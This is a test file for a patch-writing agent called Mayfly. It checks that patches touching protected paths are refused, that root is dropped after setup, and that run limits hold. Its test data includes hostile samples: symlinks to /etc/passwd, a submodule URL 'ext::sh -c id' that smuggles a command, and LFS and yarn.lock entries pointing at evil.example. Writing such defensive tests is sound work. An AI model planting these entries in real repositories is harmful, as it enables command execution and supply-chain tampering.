/**
 * Tests 8, 38 and 39 of the threat model, on the stand-in GitHub with real git: what a patch must not touch is refused
 * before any write call, whatever its name is spelled like. And what the settings make of that list, and of root.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { failOnViolations } from '../support/github/clients.ts';
import { whyNoSshd } from '../support/host-sshd.ts';
import { bash, createIssueWorld, submit } from '../support/issue-world.ts';
import type { IssueWorld } from '../support/issue-world.ts';

const reason = whyNoSshd();
if (reason) process.stderr.write(`SKIPPED: protected paths on folders of this host were not tested: ${reason}\n`);

const settings = '.github/mayfly.yml';

describe.skipIf(reason)('a patch', () => {
  let world: IssueWorld | null = null;
  beforeEach(() => (world = null));
  afterEach(async () => {
    if (world) failOnViolations(world.standIn);
    await world?.[Symbol.asyncDispose]();
  });

  async function open(files: Record<string, string> = {}): Promise<IssueWorld> {
    return (world = await createIssueWorld(files));
  }

  const gitWrites = ({ standIn }: IssueWorld): readonly string[] =>
    standIn.requests.filter(({ method, path }) => method !== 'GET' && /\/(?:git\/|pulls$)/.test(path)).map(({ method, path }) => `${method} ${path}`);

  /** How a run with this command ended, and what it wrote at GitHub. */
  async function attempt(command: string, files: Record<string, string> = {}) {
    const opened = await open(files);
    const { report } = await opened.run([bash(`echo good > src.txt; ${command}`), submit()]);
    const [comment] = await opened.comments();
    return { outcome: report.outcome, writes: gitWrites(opened), pulls: await opened.repository.pullRequests(), comment };
  }

  const refused = (reason: string) => ({
    outcome: expect.objectContaining({ kind: 'refused', reason }),
    writes: [],
    pulls: [],
    comment: expect.stringContaining('**Mayfly: refused.**'),
  });

  const write = (path: string): string => `mkdir -p "$(dirname '${path}')" && echo x > '${path}'`;

  it.each(['.github/workflows/x.yml', '.github/actions/a/action.yml', settings, 'docs/CODEOWNERS'])('test 8: that touches %s', async (path) => {
    expect(await attempt(write(path))).toEqual(refused('patch_protected_path'));
  });

  it.each([
    ['to a file of the machine', 'ln -s /etc/passwd link'],
    ['to the repository itself', 'ln -s .git link'],
    ['to a folder, in the place of one with a file below it', 'git rm -rq --cached folder; rm -rf folder; ln -s /etc folder'],
  ])('test 16: that holds a symbolic link %s', async (_what, command) => {
    expect(await attempt(command, { 'folder/file': 'x\n' })).toEqual(refused('patch_mode'));
  });

  it.each([
    ['moves a file into the list', 'mkdir -p .github/workflows && git mv src.txt .github/workflows/x.yml', 'patch_protected_path', {}],
    ['moves a file out of it', 'git mv .github/workflows/ci.yml ci.yml', 'patch_protected_path', { '.github/workflows/ci.yml': 'on: push' }],
    ['has another case', write('.GITHUB/Workflows/x.yml'), 'patch_protected_path', {}],
    ['is decomposed', write('e\u0301.txt'), 'patch_path', {}],
    ['ends in a dot', write('.github./workflows/x.yml'), 'patch_path', {}],
    ['ends in a space', write('.github /workflows/x.yml'), 'patch_path', {}],
    ['has a backslash', write('.github\\workflows\\x.yml'), 'patch_path', {}],
  ])('test 38: that %s', async (_what, command, why, files) => {
    expect(await attempt(command, files)).toEqual(refused(why));
  });

  it.each([
    ['adds a submodule', 'git init -q sub && git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git add sub', 'patch_mode', {}],
    [
      'changes the address of one',
      `printf '[submodule "a"]\\n\\tpath = a\\n\\turl = ext::sh -c id\\n' > .gitmodules`,
      'patch_protected_path',
      { '.gitmodules': '# none' },
    ],
    ['sets a filter', `echo '* filter=x' > .gitattributes`, 'patch_protected_path', {}],
    ['points Git LFS elsewhere', `printf '[lfs]\\n\\turl = https://evil.example\\n' > .lfsconfig`, 'patch_protected_path', {}],
  ])('test 39: that %s', async (_what, command, why, files) => {
    expect(await attempt(command, files)).toEqual(refused(why));
  });

  it('that touches what the settings protect is refused with the path, and no setting opens the settings file', async () => {
    const named = await attempt(write('migrations/1.sql'), { [settings]: 'protect:\n  refuse: [migrations/]\n' });
    expect(named).toEqual(refused('patch_protected_path'));
    expect(named.comment).toContain('migrations/1.sql');
    await world?.[Symbol.asyncDispose]();

    expect(await attempt(`echo 'enabled: true' >> ${settings}`, { [settings]: 'protect:\n  allow: ["**"]\n' })).toEqual(refused('patch_protected_path'));
  });

  it('that touches what a person should look at is published, and says so at its top', async () => {
    const opened = await open({ 'yarn.lock': 'resolved "https://registry.yarnpkg.com/a"\n', [settings]: 'setup: []\nprotect:\n  allow: [.vscode/]\n' });
    const lock = `echo 'resolved "https://evil.example/b"' >> yarn.lock`;

    const { report } = await opened.run([bash(`echo good > src.txt; ${lock}; echo FROM x > Dockerfile; ${write('.vscode/tasks.json')}`), submit()]);

    expect(report.outcome).toMatchObject({ kind: 'published' });
    const [pull] = (await opened.repository.pullRequests()) as { body: string }[];
    expect(pull?.body).toMatch(/^<!-- mayfly:run \w+ -->\n> \[!WARNING\]\n> \*\*Look at these files first\.\*\*/);
    expect(pull?.body).toContain('`Dockerfile`: it decides what is built and shipped');
    expect(pull?.body).toContain('`yarn.lock`: packages come from hosts that were not in it before: evil.example');
    expect(pull?.body).not.toContain('tasks.json`:');
  });
});

describe.skipIf(reason)('the settings of the default branch', () => {
  let world: IssueWorld;
  afterEach(async () => {
    failOnViolations(world.standIn);
    await world[Symbol.asyncDispose]();
  });

  it('name the branch, the labels and the reviewers, and whether it is a draft', async () => {
    world = await createIssueWorld({ [settings]: 'branchPrefix: bot\ndraft: false\nlabels: [bug]\nreviewers: [bob, nobody-here]\n' });

    await world.run([bash('echo good > src.txt'), submit()]);

    const [pull] = (await world.repository.pullRequests()) as { draft: boolean; head: { ref: string }; labels: { name: string }[] }[];
    expect(pull).toMatchObject({ draft: false, head: { ref: `bot/issue-${world.job.issue.number}` } });
    expect(pull?.labels.map(({ name }) => name)).toEqual(['bug']);
  });

  it('take root away after setup', async () => {
    world = await createIssueWorld({ [settings]: 'setup: ["sudo -n true && echo yes > /tmp/setup-was-root"]\n' });
    const ask = 'echo "setup: $(cat /tmp/setup-was-root), now: $(sudo -n true 2>/dev/null && echo yes || echo no)"';

    const { model } = await world.run([bash(ask), bash('echo good > src.txt'), submit()]);

    expect(JSON.stringify(model.questions.at(-1)?.messages)).toContain('setup: yes, now: no');
  });

  it('narrow the limits of the run', async () => {
    world = await createIssueWorld({ [settings]: 'limits:\n  steps: 1\n' });

    const { report } = await world.run([bash('echo good > src.txt'), submit()]);

    expect(report.outcome).toEqual({ kind: 'gave_up', limit: 'steps' });
  });

  it.each([
    ['enabled: false', 'disabled'],
    ['sandbox: {isolation: hardware}', 'isolation'],
    ['triggers: {permission: admin}', 'not_permitted'],
  ])('end the run before any VM: %s', async (text, why) => {
    world = await createIssueWorld({ [settings]: text });

    const { report, boots } = await world.run([]);

    expect(report.outcome).toMatchObject({ kind: 'refused', reason: why });
    expect(boots).toEqual([]);
    expect((await world.repository.issue(world.job.issue.number)).labels).toEqual([]);
  });
});
